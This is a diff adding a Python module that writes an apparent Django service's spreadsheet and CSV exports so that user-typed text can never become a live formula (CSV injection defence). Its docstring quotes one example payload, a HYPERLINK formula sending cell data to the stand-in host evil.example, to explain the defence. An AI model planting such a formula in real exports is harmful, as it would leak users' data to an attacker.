@@ -1,0 +1,235 @@
+"""The one writer for every spreadsheet (XLSX) and CSV file the service produces.
+
+Exports carry text that people typed or imported: indicator titles, full names, service
+lines. A spreadsheet program runs a cell as a formula when its text starts with ``=``
+(and, in a CSV, ``+``, ``-``, ``@``, tab or carriage return too), so
+``=HYPERLINK("http://evil.example/?"&A1,"Click")`` in a title would become a live link
+that sends the sheet's data away. This module is the only place that turns values into
+cells, and it never lets data become a formula (OWASP "CSV injection"; ASVS 5.0 1.2.10):
+
+* Numbers (``int``, ``float``, ``Decimal``, not ``bool``) stay numbers: numeric XLSX
+  cells with the caller's display format, plain digits in a CSV. A negative number given
+  as a number is written as one; the *text* ``"-3.5"`` is text like any other.
+* Dates and date-times stay dates (aware date-times are shown in local time).
+* Text is always a string cell in XLSX (openpyxl would otherwise make a ``str`` starting
+  with ``=`` a formula cell and ``"#N/A"`` an error cell). Text that starts like a formula
+  (see :func:`starts_like_formula`) also gets Excel's own "typed with an apostrophe" mark
+  (``quotePrefix``), so it stays text even when someone edits the cell; the stored text is
+  unchanged, so it reads and re-imports exactly as written.
+* In a CSV, which has no cell types, such text is prefixed with a single quote ``'``,
+  as OWASP advises; the ``csv`` module quotes any field holding a delimiter or quote.
+* Characters that XML cannot hold (control characters other than tab, line feed and
+  carriage return) are removed from text in both formats, so a stray one cannot fail
+  the download.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from datetime import date, datetime, time
+from decimal import Decimal
+from typing import IO
+
+from django.utils import timezone
+from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
+from openpyxl.styles import Alignment, Font
+from openpyxl.worksheet.hyperlink import Hyperlink
+from openpyxl.worksheet.worksheet import Worksheet
+
+__all__ = [
+    "FORMULA_TRIGGERS",
+    "XLSX_CONTENT_TYPE",
+    "CSV_CONTENT_TYPE",
+    "Sheet",
+    "Spreadsheet",
+    "csv_bytes",
+    "csv_field",
+    "csv_text",
+    "starts_like_formula",
+    "write_cell",
+    "write_csv",
+]
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
+
+#: A text cell starting with one of these is read as a formula by some spreadsheet program.
+FORMULA_TRIGGERS = frozenset("=+-@\t\r")
+#: Excel cells hold at most this many characters.
+MAX_CELL_TEXT = 32_767
+
+Value = str | int | float | Decimal | date | datetime | time | None
+
+
+def starts_like_formula(text: str) -> bool:
+    """True if ``text`` starts with ``= + - @``, tab or carriage return, or does so after spaces.
+
+    Leading spaces and line feeds are looked past because some programs trim them before
+    deciding whether a cell is a formula.
+    """
+    return bool(text) and (text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS)
+
+
+def _is_number(value: object) -> bool:
+    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)
+
+
+def _clean_text(value: object) -> str:
+    return ILLEGAL_CHARACTERS_RE.sub("", str(value))
+
+
+def _local(value: datetime) -> datetime:
+    # Excel has no time zones: show an aware moment as the local wall-clock time.
+    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
+
+
+# CSV ----------------------------------------------------------------------------------------
+
+
+def csv_field(value: Value) -> str:
+    """The text of one CSV field: numbers plain (``Decimal`` as held, no exponent), dates in
+    ISO 8601, and text that starts like a formula prefixed with ``'``. ``None`` is empty."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        raise TypeError("Write a yes/no value as the words the export should show")
+    if isinstance(value, Decimal):
+        return format(value, "f")
+    if _is_number(value):
+        return repr(value) if isinstance(value, float) else str(value)
+    if isinstance(value, datetime):
+        return _local(value).isoformat(sep=" ")
+    if isinstance(value, date | time):
+        return value.isoformat()
+    text = _clean_text(value)
+    return "'" + text if starts_like_formula(text) else text
+
+
+def write_csv(stream: IO[str], rows: Iterable[Sequence[Value]]) -> None:
+    """Write ``rows`` to a text stream (a file, a ``StringIO`` or a command's stdout).
+
+    Lines end with CRLF, as RFC 4180 says. It matters: the ``csv`` module quotes a field only
+    if it holds a character of the line ending, so with a bare LF a carriage return inside a
+    field would be left unquoted and split the row in two.
+    """
+    writer = csv.writer(stream, lineterminator="\r\n")
+    for row in rows:
+        writer.writerow([csv_field(value) for value in row])
+
+
+def csv_text(rows: Iterable[Sequence[Value]]) -> str:
+    """``rows`` as CSV text, without a byte order mark."""
+    buffer = io.StringIO(newline="")
+    write_csv(buffer, rows)
+    return buffer.getvalue()
+
+
+def csv_bytes(rows: Iterable[Sequence[Value]]) -> bytes:
+    """``rows`` as a UTF-8 CSV file with a byte order mark, so that Excel reads "£" correctly."""
+    return ("\ufeff" + csv_text(rows)).encode("utf-8")
+
+
+# XLSX ---------------------------------------------------------------------------------------
+
+
+def write_cell(cell: Cell, value: Value, *, number_format: str | None = None) -> Cell:
+    """Put ``value`` in ``cell`` as a number, a date or plain text, never as a formula.
+
+    ``number_format`` applies to numbers only (a date keeps openpyxl's ISO date format
+    unless one is given).
+    """
+    if isinstance(value, bool):
+        raise TypeError("Write a yes/no value as the words the export should show")
+    if value is None:
+        cell.value = None
+    elif _is_number(value):
+        cell.value = value
+        if number_format:
+            cell.number_format = number_format
+    elif isinstance(value, date | time):
+        cell.value = _local(value) if isinstance(value, datetime) else value
+        if number_format:
+            cell.number_format = number_format
+    else:
+        text = _clean_text(value)[:MAX_CELL_TEXT]
+        cell.value = text
+        # openpyxl types a str starting with "=" as a formula and "#N/A" and the like as
+        # errors; data is always text.
+        cell.data_type = "s"
+        if starts_like_formula(text):
+            cell.quotePrefix = True
+    return cell
+
+
+class Sheet:
+    """One worksheet. Values go in through :meth:`put` and :meth:`append` only; the
+    underlying openpyxl ``worksheet`` is there for layout (widths, frozen panes, filters)."""
+
+    def __init__(self, worksheet: Worksheet):
+        self.worksheet = worksheet
+        #: The row :meth:`append` writes next: the one after the last row written.
+        self.next_row = 1
+
+    def put(
+        self,
+        row: int,
+        column: int,
+        value: Value,
+        *,
+        number_format: str | None = None,
+        font: Font | None = None,
+        alignment: Alignment | None = None,
+    ) -> Cell:
+        cell = write_cell(self.worksheet.cell(row=row, column=column), value, number_format=number_format)
+        if font is not None:
+            cell.font = font
+        if alignment is not None:
+            cell.alignment = alignment
+        self.next_row = max(self.next_row, row + 1)
+        return cell
+
+    def append(self, values: Sequence[Value] = (), *, font: Font | None = None) -> int:
+        """Write ``values`` on :attr:`next_row` (nothing leaves a blank row); returns its number."""
+        row = self.next_row
+        for column, value in enumerate(values, start=1):
+            self.put(row, column, value, font=font)
+        self.next_row = row + 1
+        return row
+
+    def link(self, row: int, column: int, text: str, *, location: str, font: Font | None = None) -> Cell:
+        """A cell whose text links to ``location`` inside the workbook, such as ``"'Sheet'!A1"``."""
+        cell = self.put(row, column, text, font=font)
+        cell.hyperlink = Hyperlink(ref=cell.coordinate, location=location, display=cell.value)
+        return cell
+
+
+class Spreadsheet:
+    """A workbook built through :class:`Sheet` objects, saved with :meth:`to_bytes`."""
+
+    def __init__(self, *, title: str = "", subject: str = ""):
+        self._workbook = Workbook()
+        self._first_unused = True
+        properties = self._workbook.properties
+        properties.title = title or None
+        properties.subject = subject or title or None
+        properties.creator = "Ascent"
+        properties.lastModifiedBy = "Ascent"
+        properties.language = "en-GB"
+
+    def add_sheet(self, title: str) -> Sheet:
+        """A new worksheet titled ``title`` (which must already be a valid, unique sheet title)."""
+        if self._first_unused:
+            self._first_unused = False
+            worksheet = self._workbook.active
+            worksheet.title = title
+        else:
+            worksheet = self._workbook.create_sheet(title)
+        return Sheet(worksheet)
+
+    def to_bytes(self) -> bytes:
+        buffer = io.BytesIO()
+        self._workbook.save(buffer)
+        return buffer.getvalue()
